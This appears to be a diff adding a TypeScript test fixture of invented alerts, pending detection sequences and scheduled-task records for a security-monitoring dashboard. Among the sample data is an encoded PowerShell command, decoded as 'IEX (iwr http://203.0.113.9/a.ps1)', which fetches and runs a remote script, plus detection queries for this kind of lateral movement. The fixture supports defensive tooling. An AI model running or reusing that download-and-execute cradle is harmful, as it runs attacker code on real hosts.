@@ -1,0 +1,421 @@
+/**
+ * Invented data of plausible size and shape: an incident on one workstation, a few quiet alerts around it.
+ * Names are from documentation ranges; nothing here was ever logged.
+ */
+import { newCounters } from "../../src/base/counters.ts";
+import { parseTimestamp } from "../../src/base/time.ts";
+import type { Us } from "../../src/base/time.ts";
+import type {
+  AlertDetail,
+  AlertRow,
+  PendingRow,
+  Snapshot,
+  SourceRow,
+  StepDetail,
+  TaskRow,
+} from "../../src/screen/store/snapshot.ts";
+import type { TaskRecord } from "../../src/task/task.ts";
+
+export function at(time: string): Us {
+  return parseTimestamp(`2024-03-05T${time}Z`)!;
+}
+
+export const NOW = at("12:04:31.000");
+
+export function alertRow(fields: Partial<AlertRow> & { id: string }): AlertRow {
+  return {
+    timeUs: NOW,
+    severity: "medium",
+    status: "open",
+    certainty: "confirmed",
+    revision: 1,
+    rule: "Remote Scheduled Task Creation",
+    host: "WKS-014",
+    user: "CORP\\jdoe",
+    ...fields,
+  };
+}
+
+export const ALERTS: readonly AlertRow[] = [
+  alertRow({
+    id: "a1",
+    timeUs: at("12:04:28.311"),
+    severity: "critical",
+    rule: "Scheduled Task Runs a Hidden Shell",
+  }),
+  alertRow({
+    id: "a2",
+    timeUs: at("12:04:11.000"),
+    severity: "high",
+    certainty: "provisional",
+    rule: "LSASS Handle from an Unsigned Image",
+    host: "WKS-022",
+    user: "CORP\\svc_bk",
+  }),
+  alertRow({
+    id: "a3",
+    timeUs: at("12:03:55.000"),
+    severity: "high",
+    revision: 2,
+    host: "DC01",
+    user: "CORP\\adm_k",
+  }),
+  alertRow({
+    id: "a4",
+    timeUs: at("12:02:40.000"),
+    status: "acknowledged",
+    rule: "Certutil with a URL Argument",
+    host: "WKS-101",
+    user: "CORP\\mlee",
+  }),
+  alertRow({
+    id: "a5",
+    timeUs: at("12:01:07.000"),
+    status: "acknowledged",
+    rule: "Registry Run Key by a Script Host",
+  }),
+  alertRow({
+    id: "a6",
+    timeUs: at("11:58:31.000"),
+    severity: "low",
+    status: "closed",
+    rule: "Local Group Enumeration",
+    host: "SRV-07",
+    user: "CORP\\ops",
+  }),
+  alertRow({
+    id: "a7",
+    timeUs: at("11:57:02.000"),
+    severity: "low",
+    certainty: "withdrawn",
+    rule: "Task Query Burst",
+    host: "SRV-07",
+    user: "",
+  }),
+];
+
+function pendingRow(fields: Partial<PendingRow> & { id: string }): PendingRow {
+  return {
+    rule: "Office Child Drops a Task",
+    severity: "high",
+    host: "WKS-014",
+    state: "started",
+    seen: 2,
+    steps: 3,
+    startUs: at("12:02:50.000"),
+    maxspanUs: 120_000_000,
+    deadlineUs: at("12:04:50.000"),
+    evidence: ["winword.exe started cmd.exe", "cmd.exe started schtasks.exe"],
+    ...fields,
+  };
+}
+
+export const PENDING: readonly PendingRow[] = [
+  pendingRow({ id: "p1" }),
+  pendingRow({
+    id: "p2",
+    rule: "WMI Execution then New Service",
+    host: "DC01",
+    seen: 1,
+    steps: 2,
+    startUs: at("12:02:00.000"),
+    maxspanUs: 300_000_000,
+    deadlineUs: at("12:07:00.000"),
+    evidence: ["wmiprvse.exe started cmd.exe"],
+  }),
+  pendingRow({
+    id: "p3",
+    rule: "Remote Scheduled Task Creation",
+    host: "SRV-07",
+    state: "early",
+    seen: 1,
+    steps: 2,
+    startUs: at("12:04:20.000"),
+    maxspanUs: 60_000_000,
+    deadlineUs: at("12:05:20.000"),
+    evidence: ["registry: TaskCache\\Tasks\\{…}\\Actions"],
+  }),
+  pendingRow({
+    id: "p4",
+    rule: "Two Events Any Time Apart",
+    host: "WKS-101",
+    seen: 1,
+    steps: 2,
+    maxspanUs: undefined,
+    deadlineUs: undefined,
+  }),
+];
+
+export const TASKS: readonly TaskRow[] = [
+  {
+    id: "t1",
+    timeUs: at("12:04:27.000"),
+    host: "WKS-014",
+    name: "\\Updater",
+    command:
+      "powershell.exe -w hidden -nop -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADkALwBhAC4AcABzADEAKQA=",
+    decoded: "IEX (iwr http://203.0.113.9/a.ps1)",
+    detail: "created, task event 4698, runs as SYSTEM",
+    unknown: undefined,
+  },
+  {
+    id: "t2",
+    timeUs: at("12:01:07.000"),
+    host: "WKS-014",
+    name: "\\Microsoft\\Windows\\UpdateOrchestrator\\OneDriveSync",
+    command: "C:\\Users\\jdoe\\AppData\\Roaming\\od\\od.exe -s",
+    decoded: "",
+    detail: "created, registry value, at logon",
+    unknown: undefined,
+  },
+  {
+    id: "t3",
+    timeUs: at("11:40:19.000"),
+    host: "SRV-07",
+    name: "\\Backup",
+    command: "",
+    decoded: "",
+    detail: "changed",
+    unknown:
+      "the log says that the value was set, not what to; event 4698 would tell",
+  },
+];
+
+export const SOURCES: readonly SourceRow[] = ["dc01", "wks", "srv"].map(
+  (name) => ({
+    path: `/var/log/win/${name}.ndjson`,
+    state: "following",
+    shape: "wl-raw",
+    hosts: [name],
+    lines: 61_000,
+    events: 60_998,
+    unparsed: 0,
+    behindBytes: 0,
+    lastEventUs: NOW,
+    note: undefined,
+  }),
+);
+
+export interface SnapshotParts {
+  readonly alerts?: readonly AlertRow[];
+  readonly pending?: readonly PendingRow[];
+  readonly tasks?: readonly TaskRow[];
+  readonly filter?: string;
+  readonly total?: number;
+}
+
+/** A snapshot around the given lists; anything else can be laid over it. */
+export function snapshot(
+  {
+    alerts = ALERTS,
+    pending = PENDING,
+    tasks = TASKS,
+    filter = "",
+    total = alerts.length,
+  }: SnapshotParts = {},
+  over: Partial<Snapshot> = {},
+): Snapshot {
+  const withStatus = (status: AlertRow["status"]): number =>
+    alerts.filter((row) => row.status === status).length;
+  return {
+    version: 1,
+    mode: "live",
+    state: "live",
+    streamUs: NOW,
+    eventsPerSecond: 1_284,
+    sparkline: [3, 5, 8, 13, 9, 7, 6, 9, 12, 15, 14, 9, 6, 4, 3, 5].map(
+      (n) => n * 100,
+    ),
+    lagUs: 800_000,
+    behindBytes: 0,
+    counters: { ...newCounters(), events: 184_112, lines: 184_116 },
+    rules: { loaded: 412, refused: 0 },
+    sources: SOURCES,
+    pending: {
+      total: pending.length,
+      early: pending.filter((row) => row.state === "early").length,
+      rows: pending,
+    },
+    alerts: {
+      total,
+      open: withStatus("open"),
+      acknowledged: withStatus("acknowledged"),
+      closed: withStatus("closed"),
+      matching: alerts.length,
+      from: 0,
+      rows: alerts,
+      filter,
+      filterError: undefined,
+    },
+    tasks: { total: tasks.length, rows: tasks },
+    replay: undefined,
+    messages: [],
+    ...over,
+  };
+}
+
+/** Alerts enough to scroll through, newest first, ten seconds apart. */
+export function manyAlerts(number: number): AlertRow[] {
+  return Array.from({ length: number }, (_, i) =>
+    alertRow({
+      id: `m${i}`,
+      timeUs: NOW - i * 10_000_000,
+      severity: (["low", "medium", "high"] as const)[i % 3]!,
+      rule: `Rule number ${i}`,
+      status: i % 4 === 3 ? "closed" : "open",
+    }),
+  );
+}
+
+/** The flagship case: the network event happened first and was logged last. */
+export const STEPS: readonly StepDetail[] = [
+  {
+    step: 1,
+    filter:
+      'network where process.name : "svchost.exe" and network.direction == "ingress"',
+    event: {
+      timeUs: at("12:04:07.091"),
+      writtenUs: at("12:04:29.300"),
+      host: "WKS-014",
+      channel: "Microsoft-Windows-Sysmon/Operational",
+      code: "3",
+      shape: "wl-raw",
+      summary: "svchost.exe 10.0.0.7:52110 to 10.0.0.14:49667 tcp, incoming",
+      fields: {
+        "process.name": "svchost.exe",
+        "source.ip": "10.0.0.7",
+        "source.port": "52110",
+        "destination.port": "49667",
+      },
+      file: "/var/log/win/wks.ndjson",
+      line: 60_213,
+      offset: 88_121_920,
+      length: 1_622,
+    },
+  },
+  {
+    step: 2,
+    filter:
+      'registry where registry.path : "*TaskCache\\\\Tasks\\\\*\\\\Actions"',
+    event: {
+      timeUs: at("12:04:28.311"),
+      writtenUs: at("12:04:28.311"),
+      host: "WKS-014",
+      channel: "Microsoft-Windows-Sysmon/Operational",
+      code: "13",
+      shape: "wl-raw",
+      summary:
+        "svchost.exe set HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{6F3C1A52-0000-4000-8000-000000000001}\\Actions",
+      fields: {
+        "registry.path":
+          "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{6F3C1A52-0000-4000-8000-000000000001}\\Actions",
+        "process.entity_id": "{f66f7c10-0000-0000-0000-000000000001}",
+      },
+      file: "/var/log/win/wks.ndjson",
+      line: 60_201,
+      offset: 88_101_331,
+      length: 1_204,
+    },
+  },
+];
+
+export const TASK_RECORD: TaskRecord = {
+  id: "WKS-014 \\Updater",
+  hostId: "wks-014",
+  hostName: "WKS-014",
+  guid: "{6F3C1A52-0000-4000-8000-000000000001}",
+  path: "\\Updater",
+  timeUs: at("12:04:28.400"),
+  change: "created",
+  user: "CORP\\jdoe",
+  definition: {
+    status: "ok",
+    source: "xml-event",
+    problems: [
+      {
+        code: "placeholder",
+        level: "note",
+        message: "the author is a placeholder: $(@%systemroot%\\x.dll,-1)",
+      },
+    ],
+    actions: [
+      {
+        type: "exec",
+        id: null,
+        command: "powershell.exe",
+        arguments: "-w hidden -nop -enc SQBFAFgAIAAoAGkAdwByACA…",
+        workingDirectory: "C:\\Windows\\Temp",
+      },
+    ],
+    context: "Author",
+    runAs: "S-1-5-18",
+    runLevel: "HighestAvailable",
+    triggers: ["every 5 minutes from 2024-03-05 12:05"],
+    hidden: true,
+  },
+  hints: [
+    {
+      hint: "encoded-powershell",
+      reason: "PowerShell with an encoded command",
+      matched: "-enc SQBFAFgA",
+    },
+  ],
+  layers: [
+    {
+      kind: "powershell-encoded",
+      text: "$u = 'http://203.0.113.9/a.ps1'\r\nIEX (iwr $u -UseBasicParsing)",
+    },
+  ],
+  from: "task event 4698",
+  unknown: undefined,
+};
+
+export function detail(over: Partial<AlertDetail> = {}): AlertDetail {
+  const row = over.row ?? ALERTS[0]!;
+  return {
+    id: row.id,
+    row,
+    index: 0,
+    total: ALERTS.length,
+    ruleId: "954ee7c8-5437-49ae-b2d6-2960883898e9",
+    ruleFile: "rules/windows/lateral_movement_scheduled_task.toml",
+    description:
+      "A scheduled task was created from another machine: the Task Scheduler service took a connection and wrote a task within a minute.",
+    query:
+      'sequence by host.id, process.entity_id with maxspan=1m\n  [network where process.name : "svchost.exe" and source.port >= 49152]\n  [registry where registry.path : "*TaskCache*Actions"]',
+    riskScore: 47,
+    threats: [
+      {
+        framework: "MITRE ATT&CK",
+        tactic: {
+          id: "TA0008",
+          name: "Lateral Movement",
+          reference: undefined,
+        },
+        techniques: [
+          {
+            id: "T1053",
+            name: "Scheduled Task/Job",
+            reference: undefined,
+            subtechniques: [
+              { id: "T1053.005", name: "Scheduled Task", reference: undefined },
+            ],
+          },
+        ],
+      },
+    ],
+    guide:
+      "## Triage\n\n- Decode the task's actions.\n- Find out who connected.\n\n## Response\n\nIsolate the host if the action is not known.",
+    references: ["https://attack.mitre.org/techniques/T1053/005/"],
+    falsePositives: ["Software deployment that creates tasks remotely"],
+    key: {
+      "host.id": "wks-014",
+      "process.entity_id": "{f66f7c10-0000-0000-0000-000000000001}",
+    },
+    maxspanUs: 60_000_000,
+    steps: STEPS,
+    tasks: [TASK_RECORD],
+    reason: undefined,
+    ...over,
+  };
+}
